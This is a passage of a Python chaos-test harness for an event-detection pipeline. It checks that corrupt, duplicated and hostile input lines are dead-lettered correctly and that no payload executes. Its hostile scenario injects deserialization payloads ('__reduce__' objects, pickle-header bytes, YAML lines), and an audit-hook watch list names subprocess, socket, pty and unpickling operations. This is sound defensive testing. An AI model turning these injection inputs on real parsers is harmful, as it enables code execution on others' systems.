        Line(_dumps(_with(template, ts=payloads[0])), dl.BAD_TIMESTAMP, "ts_payload"),
        Line(_dumps(_with(template, count=payloads[1])), dl.WRONG_TYPE, "count_payload"),
        Line(_dumps(_with(template, actor={"__reduce__": payloads[4]})), dl.WRONG_TYPE, "actor_object_payload"),
        Line(payloads[3].encode(), dl.INVALID_JSON, "yaml_line"),
        Line(b"\x80\x04\x95" + payloads[0].encode(), dl.INVALID_UTF8, "pickle_bytes_line"),
    ]
    for line in hostile_lines + refused:
        lines.insert(rng.randrange(1, len(lines)), line)
    chunks = _split(lines, 2, rng)
    return Corpus("hostile", "payloads in every field, fake personal data in ua/unknown fields",
                  [FileSpec("part-1.jsonl", chunks[0]), FileSpec("part-2.jsonl.gz", chunks[1])],
                  hostile=HostileSpec(canary, actors, targets, creator))


def _iso(ms: int) -> str:
    return datetime.fromtimestamp(ms / 1000, tz=timezone.utc).isoformat(timespec="milliseconds")


SCENARIOS: Tuple[str, ...] = ("reference", "corrupt", "shuffled", "split", "duplicated", "gzip_mix", "corrupt_gz",
                              "hostile")


def build_corpus(name: str, reference: Reference, workdir: Path) -> Corpus:
    builders = {"reference": build_reference, "corrupt": build_corrupt, "shuffled": build_shuffled,
                "split": build_split, "duplicated": build_duplicated, "gzip_mix": build_gzip_mix,
                "corrupt_gz": build_corrupt_gz}
    if name == "hostile":
        return build_hostile(reference, workdir)
    return builders[name](reference)


# ---------------------------------------------------------------------------------------------
# Running `guetteur detect`, watched


class AuditWatch:
    """Records audited operations that act on the world — open, exec, compile, processes, sockets,
    unpickling, imports (PEP 578 events) — whose arguments carry `token`.
    One process-wide hook, installed once, idle when nothing watches."""

    EVENTS = ("open", "os.", "subprocess.", "socket.", "exec", "compile", "import", "pickle.", "marshal.",
              "urllib.", "http.client.", "ftplib.", "smtplib.", "poplib.", "imaplib.", "webbrowser.", "ctypes.",
              "shutil.", "glob.", "tempfile.", "sqlite3.", "pty.", "mmap.", "fcntl.", "syslog.", "code.")
    _installed = False
    _active: List["AuditWatch"] = []

    def __init__(self, token: str):
        self.token = token
        self._token_bytes = token.encode()
        self.hits: List[Tuple[str, str]] = []

    def _carries(self, value, depth: int = 0) -> bool:
        if isinstance(value, str):
            return self.token in value
        if isinstance(value, (bytes, bytearray)):
            return self._token_bytes in value
        if isinstance(value, os.PathLike):
            return self.token in os.fspath(value)
        if isinstance(value, types.CodeType):
            return any(self._carries(const, depth + 1) for const in value.co_consts)
        if type(value) in (tuple, list) and depth < 3:
            return any(self._carries(item, depth + 1) for item in value)
        return False

    @classmethod
    def _hook(cls, event: str, args) -> None:
        if not cls._active or not event.startswith(cls.EVENTS):
            return
        try:
            for watch in cls._active:
                if watch._carries(args):
                    watch.hits.append((event, repr(args)[:300]))
        except Exception:  # an audit hook must never break what it watches
            pass

    def __enter__(self) -> "AuditWatch":
        if not AuditWatch._installed:
            sys.addaudithook(AuditWatch._hook)
            AuditWatch._installed = True
        AuditWatch._active.append(self)
        return self

    def __exit__(self, *exc) -> None:
        AuditWatch._active.remove(self)


@dataclass
class Run:
    exit_code: int
    seconds: float
    lines_in: int  # recounted from the input files
    files: int
    metrics: Dict[str, float]
    dead_letters: Counter  # (reason, line bytes) -> how many, read back from deadletter*.jsonl
    alerts: List[dict]
    stderr: str
    audit_hits: List[Tuple[str, str]] = field(default_factory=list)


def parse_prometheus_text(text: str) -> Dict[str, float]:
    values = {}
    for line in text.splitlines():
        if line and not line.startswith("#"):
            name, _, value = line.rpartition(" ")
            values[name] = float(value)
    return values


def _line_bytes(letter: dict) -> bytes:
    if letter.get("line_encoding") == "base64":
        return base64.b64decode(letter["line"])
    return letter["line"].encode("utf-8")


def run_detect(input_pattern: str, output_dir: Path, watch: Optional[AuditWatch] = None) -> Run:
    """`guetteur detect` on the local runner, in this process; what it wrote, read back."""
    from apache_beam.io.filesystems import FileSystems

    from pipelines import cli

    paths = [Path(m.path) for m in FileSystems.match([input_pattern])[0].metadata_list]
    lines_in = sum(len(file_lines(path)) for path in paths)
    output_dir.mkdir(parents=True, exist_ok=True)
    metrics_file = output_dir / "metrics.prom"
    stderr = io.StringIO()
    started = time.monotonic()
    with contextlib.redirect_stderr(stderr), (watch or contextlib.nullcontext()):
        code = cli.main(["detect", "--input", input_pattern, "--output", str(output_dir),
                         "--metrics-file", str(metrics_file), "--no-progress"])
    seconds = time.monotonic() - started
    metrics = parse_prometheus_text(metrics_file.read_text()) if metrics_file.exists() else {}
    dead, alerts = Counter(), []
    for path in sorted(output_dir.glob("deadletter*.jsonl")):
        with open(path, "rb") as handle:
            for raw in handle:
                letter = orjson.loads(raw)
                dead[(letter["reason"], _line_bytes(letter))] += 1
    for path in sorted(output_dir.glob("alerts*.jsonl")):
        with open(path, "rb") as handle:
            alerts += [orjson.loads(raw) for raw in handle]
    return Run(code, seconds, lines_in, len(paths), metrics, dead, alerts, stderr.getvalue(),
               list(watch.hits) if watch else [])


# ---------------------------------------------------------------------------------------------
# Checking


@dataclass
class Outcome:
    scenario: str
    files: int
    lines_in: int
    accepted: int
    dead_by_reason: Counter  # reason -> dead letters written
    duplicates_injected: int
    duplicates_counted: int
    alerts: int
    alerts_vs_reference: str  # "ref", "same", "+N hostile", "-N +M"
    lost: int  # lines neither accepted nor dead-lettered
    doubled: int  # lines accounted for more than once
    seconds: float
    problems: List[str] = field(default_factory=list)

    @property
    def ok(self) -> bool:
        return not self.problems


def _canonical(alert: dict) -> bytes:
    return orjson.dumps(alert, option=orjson.OPT_SORT_KEYS)


def _strings(value) -> Iterable[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from _strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from _strings(item)


def forbidden_values(corpus: Corpus, min_chars: int = 8) -> set:
    """Every text value of an accepted event outside actor/org/actor_type/record/target (and
    ts/action/count), at least `min_chars` long: none of it may appear in an alert."""
    values = set()
    for spec in corpus.files:
        for _, line in spec.yielded():
            if line.reason is not None:
                continue
            event = orjson.loads(line.raw)
            for key, value in event.items():
                if key in ALLOWED_IN_ALERTS or key in _NOT_TEXT:
                    continue
                values.update(text for text in _strings(value) if len(text) >= min_chars)
    return values


def leaked_values(alerts: Sequence[dict], forbidden: set, min_chars: int = 8) -> List[str]:
    text = "\x1f".join(s for alert in alerts for s in _strings(alert))
    prefixes = {text[i:i + min_chars] for i in range(max(len(text) - min_chars + 1, 0))}
    return sorted(value for value in forbidden if value[:min_chars] in prefixes and value in text)


def _describe(counter: Counter, limit: int = 4) -> str:
    items = [f"{reason} {line[:60]!r} x{n}" for (reason, line), n in list(counter.items())[:limit]]
    return "; ".join(items) + (f"; and {len(counter) - limit} more" if len(counter) > limit else "")


def check(corpus: Corpus, run: Run, reference_alerts: Optional[Sequence[dict]]) -> Outcome:
    """What `run` did with `corpus`, and every way it broke the promise (empty: none)."""
    expected = corpus.expected()
    problems: List[str] = []
    m = run.metrics
    if run.exit_code != 0:
        problems.append(f"guetteur detect exited {run.exit_code}: {run.stderr.strip()[-300:]}")
    if run.lines_in != expected.lines:
        problems.append(f"the input files hold {run.lines_in} lines, the generator meant {expected.lines}")
    accepted = int(m.get("guetteur_events_accepted", -1))
    written = sum(run.dead_letters.values())
    if int(m.get("guetteur_lines_read", -1)) != run.lines_in:
        problems.append(f"lines_read counter {m.get('guetteur_lines_read')} != {run.lines_in} lines in the files")
    if accepted != expected.accepted:
        problems.append(f"events_accepted {accepted} != {expected.accepted} valid lines")
    missing, unexpected = expected.dead - run.dead_letters, run.dead_letters - expected.dead
    if missing:
        problems.append(f"{sum(missing.values())} expected dead letters missing: {_describe(missing)}")
    if unexpected:
        problems.append(f"{sum(unexpected.values())} unexpected dead letters: {_describe(unexpected)}")
    by_reason = Counter()
    for (reason, _), n in run.dead_letters.items():
        by_reason[reason] += n
    if int(m.get("guetteur_dead_lettered", 0)) != written:
        problems.append(f"dead_lettered counter {m.get('guetteur_dead_lettered')} != {written} dead letters written")
    for reason in set(by_reason) | {name[len("guetteur_dead_lettered_"):] for name in m
                                    if name.startswith("guetteur_dead_lettered_")}:
        counted = int(m.get(f"guetteur_dead_lettered_{reason}", 0))
        if counted != by_reason[reason]:
            problems.append(f"dead_lettered_{reason} counter {counted} != {by_reason[reason]} written")
    duplicates = int(m.get("guetteur_events_duplicate", 0))
    if duplicates != expected.duplicates:
        problems.append(f"events_duplicate counter {duplicates} != {expected.duplicates} copies injected")
    accounted = max(accepted, 0) + written
    lost, doubled = max(run.lines_in - accounted, 0), max(accounted - run.lines_in, 0)

    versus = "ref"
    if reference_alerts is not None:
        want, got = Counter(map(_canonical, reference_alerts)), Counter(map(_canonical, run.alerts))
        gone, extra = want - got, got - want
        if gone:
            problems.append(f"{sum(gone.values())} reference alerts missing or changed, e.g. {next(iter(gone))[:300]!r}")
        if corpus.hostile is None:
            if extra:
                problems.append(f"{sum(extra.values())} alerts not in the reference, e.g. {next(iter(extra))[:300]!r}")
            versus = "same" if not gone and not extra else f"-{sum(gone.values())} +{sum(extra.values())}"
        else:
            problems += _check_hostile(corpus, run, [orjson.loads(a) for a in extra.elements()])
            versus = f"+{sum(extra.values())} hostile" if not gone else f"-{sum(gone.values())} +{sum(extra.values())}"
    elif not run.alerts:
        problems.append("the reference run raised no alert: nothing to compare with")
    return Outcome(corpus.name, run.files, run.lines_in, accepted, by_reason, expected.duplicates, duplicates,
                   len(run.alerts), versus, lost, doubled, run.seconds, problems)


def _check_hostile(corpus: Corpus, run: Run, extra: List[dict]) -> List[str]:
    hostile = corpus.hostile
    problems = []
    allowed_actors = set(hostile.actors) | set(hostile.targets) | {hostile.creator}
    for alert in extra:
        if alert["actor"] not in allowed_actors:
            problems.append(f"an alert beyond the reference about {alert['actor']!r}, not a hostile account")
        for related in alert.get("related_accounts") or []:
            if related not in allowed_actors:
                problems.append(f"related account {related!r} is not one of the hostile ids, verbatim")
    alerted = {(a["actor"], a["org"]) for a in run.alerts}
    for actor, org in hostile.actors.items():
        if (actor, org) not in alerted:
            problems.append(f"no alert carries the hostile actor {actor[:40]!r} with its org verbatim")
    if hostile.canary.exists():
        problems.append(f"a payload ran: {hostile.canary} exists")
    if run.audit_hits:
        problems.append(f"{len(run.audit_hits)} audited operations touched payload data, e.g. {run.audit_hits[0]}")
    leaked = leaked_values(run.alerts, forbidden_values(corpus))
    if leaked:
        problems.append(f"{len(leaked)} values from fields other than actor/org/actor_type/record/target "
                        f"reached alerts, e.g. {leaked[0][:80]!r}")
    return problems


# ---------------------------------------------------------------------------------------------
# The suite: reference first, then any scenario, each once


class ChaosSuite:
    def __init__(self, workdir: Path, seed: int = DEFAULT_SEED, days: int = DEFAULT_DAYS, actors: int = DEFAULT_ACTORS):
        self.workdir = Path(workdir)
        self.seed, self.days, self.actors = seed, days, actors
        self._reference: Optional[Reference] = None
        self._reference_alerts: Optional[List[dict]] = None
        self.corpora: Dict[str, Corpus] = {}
        self.runs: Dict[str, Run] = {}
        self.outcomes: Dict[str, Outcome] = {}

    @property
    def reference(self) -> Reference:
        if self._reference is None:
            from pipelines.simulation import write_simulation

            simulated = self.workdir / "simulated"
            write_simulation(str(simulated), seed=self.seed, days=self.days, actors=self.actors, bad_line_rate=0.0)
            self._reference = Reference(split_lines((simulated / "events.jsonl").read_bytes()), self.seed)
        return self._reference

    def corpus(self, name: str) -> Corpus:
        if name not in self.corpora:
            self.corpora[name] = build_corpus(name, self.reference, self.workdir / name)
        return self.corpora[name]

    def outcome(self, name: str) -> Outcome:
        if name in self.outcomes:
            return self.outcomes[name]
        if name != "reference" and self._reference_alerts is None:
            self.outcome("reference")
        corpus = self.corpus(name)
        pattern = corpus.write(self.workdir / name / "input")
        watch = AuditWatch(TOKEN) if corpus.hostile else None
        run = run_detect(pattern, self.workdir / name / "output", watch)
        self.runs[name] = run
        outcome = check(corpus, run, None if name == "reference" else self._reference_alerts)
        if name == "reference":
            if sum(outcome.dead_by_reason.values()):
                outcome.problems.append("the clean reference has dead letters")
            self._reference_alerts = run.alerts
        self.outcomes[name] = outcome
        return outcome


def format_table(outcomes: Sequence[Outcome]) -> str:
    header = (f"{'scenario':11} {'files':>5} {'lines in':>9} {'accepted':>9} {'dead':>5} {'dup ids':>11} "
              f"{'alerts':>15} {'lost':>5} {'doubled':>7} {'result':>6} {'s':>5}  dead-lettered by reason")
    rows = [header, "-" * len(header)]
    for o in outcomes:
        reasons = ", ".join(f"{reason} {n}" for reason, n in sorted(o.dead_by_reason.items())) or "-"
        dup = f"{o.duplicates_counted}/{o.duplicates_injected}"
        alerts = f"{o.alerts} {o.alerts_vs_reference}"
        rows.append(f"{o.scenario:11} {o.files:>5} {o.lines_in:>9,} {o.accepted:>9,} {sum(o.dead_by_reason.values()):>5,} "
                    f"{dup:>11} {alerts:>15} {o.lost:>5} {o.doubled:>7} {'ok' if o.ok else 'FAIL':>6} "
                    f"{o.seconds:>5.1f}  {reasons}")
    rows.append("dup ids: duplicate event_ids counted once / copies injected; alerts: vs the reference run, "
                "alert_ids included")
    for o in outcomes:
        for problem in o.problems:
            rows.append(f"FAIL {o.scenario}: {problem}")
    return "\n".join(rows)


def main(argv: Optional[Sequence[str]] = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m pipelines.chaos", description=__doc__.split("\n\n")[0])
    parser.add_argument("--output", default="out/chaos", help="work directory (emptied first)")
    parser.add_argument("--seed", type=int, default=DEFAULT_SEED)
    parser.add_argument("--days", type=int, default=DEFAULT_DAYS)
    parser.add_argument("--actors", type=int, default=DEFAULT_ACTORS)
    parser.add_argument("--only", default=",".join(SCENARIOS), help="comma-separated scenarios (the reference always runs)")
    args = parser.parse_args(argv)
    names = [name.strip() for name in args.only.split(",") if name.strip()]
    unknown = set(names) - set(SCENARIOS)
    if unknown:
        parser.error(f"unknown scenarios {sorted(unknown)}; known: {', '.join(SCENARIOS)}")
    workdir = Path(args.output)
    marker = workdir / ".guetteur-chaos"
    if workdir.exists() and any(workdir.iterdir()) and not marker.exists():
        parser.error(f"{workdir} is not empty and was not made by this command: choose another --output")
    shutil.rmtree(workdir, ignore_errors=True)
    workdir.mkdir(parents=True)
    marker.touch()
    suite = ChaosSuite(workdir, args.seed, args.days, args.actors)
    outcomes = []
    for name in ["reference"] + [n for n in names if n != "reference"]:
        print(f"chaos: {name} ...", file=sys.stderr, flush=True)
        outcomes.append(suite.outcome(name))
    print(f"seed {args.seed}, {args.days} days, {args.actors} actors, guetteur detect on the local runner; "
          f"work files in {workdir}")
    print(format_table(outcomes))
    return 0 if all(o.ok for o in outcomes) else 1


if __name__ == "__main__":
    sys.exit(main())
